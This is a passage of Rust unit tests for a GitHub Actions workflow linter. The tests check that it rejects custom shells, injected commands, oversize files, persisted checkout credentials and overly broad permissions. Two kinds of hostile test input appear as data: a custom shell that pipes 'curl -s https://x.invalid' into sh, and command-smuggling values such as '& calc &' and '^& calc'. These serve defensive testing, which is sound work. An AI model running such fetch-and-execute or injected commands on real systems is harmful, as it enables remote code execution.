    fn cmd_reads_single_quotes_as_plain_characters() {
        let step = "      - name: Gate\n        run: cargo xtask ci\n";
        let found = check(&with(
            step,
            "      - name: Gate\n        shell: cmd\n        run: cargo xtask ci '& calc &'\n",
        ));
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(found[0].contains("`&` outside quotes"), "{}", found[0]);
        let found = check(&with(
            step,
            "      - name: Gate\n        shell: cmd\n        run: cargo xtask ci ^\" ^& calc\n",
        ));
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(found[0].contains("a caret"), "{}", found[0]);
    }

    #[test]
    fn only_the_standard_shells() {
        let custom = "\"sh -c 'curl -s https://x.invalid | sh' {0}\"";
        let refused = "is not one of bash, sh, pwsh, python, cmd, powershell: a custom shell \
                       runs the step through a command line of its own";
        assert_eq!(
            check(&with(
                "      - name: Gate\n",
                &format!("      - name: Gate\n        shell: {custom}\n")
            )),
            [format!(
                "ci.yml:16: job gate, step Gate: shell: `sh -c 'curl -s https://x.invalid | sh' {{0}}` {refused}"
            )]
        );
        assert_eq!(
            check(&with(
                "    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout",
                &format!(
                    "    runs-on: ubuntu-24.04\n    defaults:\n      run:\n        shell: {custom}\n    steps:\n      - uses: actions/checkout"
                )
            )),
            [format!(
                "ci.yml:13: job gate: defaults.run.shell: `sh -c 'curl -s https://x.invalid | sh' {{0}}` {refused}"
            )]
        );
        assert_eq!(
            check(&with(
                "jobs:\n",
                "defaults:\n  run:\n    shell: bash -e {0}\njobs:\n"
            )),
            [format!(
                "ci.yml:9: defaults.run.shell: `bash -e {{0}}` {refused}"
            )]
        );
        for shell in ["bash", "sh", "pwsh", "python", "cmd", "powershell"] {
            assert_eq!(
                check(&with(
                    "      - name: Gate\n",
                    &format!("      - name: Gate\n        shell: {shell}\n")
                )),
                Vec::<String>::new(),
                "{shell}"
            );
        }
        let expression = check(&with(
            "      - name: Gate\n",
            "      - name: Gate\n        shell: ${{ inputs.shell }}\n",
        ));
        assert_eq!(expression.len(), 1, "{expression:#?}");
        assert!(expression[0].contains(refused), "{}", expression[0]);
    }

    #[test]
    fn workflow_files_over_the_limit_are_refused_before_parsing() {
        let dir = tempfile::tempdir().unwrap();
        let path = Utf8Path::from_path(dir.path()).unwrap().join("big.yml");
        // 50 MB that would take gigabytes to parse; sparse, so the test writes nothing.
        let file = std::fs::File::create(&path).unwrap();
        file.set_len(50 << 20).unwrap();
        let error = Workflow::read(&path).err().unwrap();
        assert!(matches!(error, WorkflowError::TooLarge { .. }), "{error:?}");
        assert_eq!(
            error.to_string(),
            format!(
                "{path} is 52428800 bytes: workflow files over 2097152 bytes (2 MiB) are \
                 refused before parsing; split it into smaller workflows"
            )
        );
        let error = Workflow::parse(&path, "#".repeat((2 << 20) + 1))
            .err()
            .unwrap();
        assert!(matches!(error, WorkflowError::TooLarge { .. }), "{error:?}");
        let at_the_limit = format!("jobs: {{}}\n{}\n", "#".repeat((2 << 20) - 10));
        assert_eq!(at_the_limit.len(), 2 << 20);
        std::fs::write(&path, &at_the_limit).unwrap();
        Workflow::read(&path).unwrap();
    }

    #[test]
    fn checkout_must_not_persist_credentials() {
        assert_eq!(
            check(&with(
                "        with:\n          persist-credentials: false\n",
                ""
            )),
            [
                "ci.yml:12: job gate, step #1: actions/checkout without `persist-credentials: false`: the token would stay in .git/config for every later step"
            ]
        );
    }

    #[test]
    fn permissions_and_concurrency() {
        assert_eq!(
            check(&with(
                "permissions:\n  contents: read\n",
                "permissions: write-all\n"
            )),
            [
                "ci.yml:3: workflow-level permission *: write: grant reads only here; a job that needs to write asks for it itself"
            ]
        );
        assert_eq!(
            check(&with("permissions:\n  contents: read\n", "")),
            [
                "ci.yml:1: no workflow-level `permissions`: set `permissions: contents: read` (or `{}`) and grant writes per job"
            ]
        );
        assert_eq!(
            check(&with("concurrency:\n  group: ci-${{ github.ref }}\n", "")),
            [
                "ci.yml:1: no `concurrency`: set a group, so that two runs for the same ref (or version) never overlap"
            ]
        );
        let called = with("on: [push]\n", "on:\n  workflow_call:\n");
        assert_eq!(
            check(&called.replace("concurrency:\n  group: ci-${{ github.ref }}\n", "")),
            Vec::<String>::new(),
            "a reusable workflow runs in its caller's group"
        );
        let called_and_pushed = with("on: [push]\n", "on: [push, workflow_call]\n");
        assert_eq!(
            check(&called_and_pushed.replace("concurrency:\n  group: ci-${{ github.ref }}\n", "")),
            [
                "ci.yml:1: no `concurrency`: set a group, so that two runs for the same ref (or version) never overlap"
            ]
        );
        assert_eq!(
            check(&with("      - run: cargo xtask release publish dist\n", "")),
            [
                "ci.yml:21: job publish: permission contents: write is not needed by any step of this job: remove it"
            ]
        );
        for read_only in [
            "release plan --json",
            "release build --target x86_64-pc-windows-msvc",
        ] {
            assert_eq!(
                check(&with(
                    "      - run: cargo xtask release publish dist\n",
                    &format!("      - run: cargo xtask {read_only}\n")
                )),
                [
                    "ci.yml:21: job publish: permission contents: write is not needed by any step of this job: remove it"
                ],
                "{read_only}"
            );
        }
        assert_eq!(
            check(&with(
                "      - run: cargo xtask release publish dist\n",
                "      - run: cargo xtask release \"$VERSION\"\n"
            )),
            Vec::<String>::new(),
            "the whole release publishes"
        );
        assert_eq!(
            check(&with(
                "      id-token: write\n",
                "      id-token: write\n      packages: write\n"
            )),
            [
                "ci.yml:23: job publish: permission packages: write is not needed by any step of this job: remove it"
            ]
        );
    }

    #[test]
    fn the_coverage_comment_needs_pull_requests_write() {
        let job = |run: &str| {
            format!(
                "permissions: {{}}\nconcurrency: x\njobs:\n  coverage:\n    runs-on: x\n    permissions:\n      pull-requests: write\n    steps:\n      - run: {run}\n"
            )
        };
        assert_eq!(
            check(&job("cargo xtask coverage --comment")),
            Vec::<String>::new()
        );
        assert_eq!(
            check(&job("cargo xtask coverage --fail-under 0")),
            [
                "ci.yml:7: job coverage: permission pull-requests: write is not needed by any step of this job: remove it"
            ]
        );
    }

    #[test]
    fn files_that_are_not_workflows() {
        let error = Workflow::parse(Utf8Path::new("x.yml"), "a: [".into())
            .err()
            .unwrap();
        assert!(
            error.to_string().starts_with("x.yml: not valid YAML:"),
            "{error}"
        );
        let error = Workflow::parse(Utf8Path::new("x.yml"), "name: x\n".into())
            .err()
            .unwrap();
        assert_eq!(
            error.to_string(),
            "x.yml: has no `jobs` mapping: not a workflow"
        );
    }
}
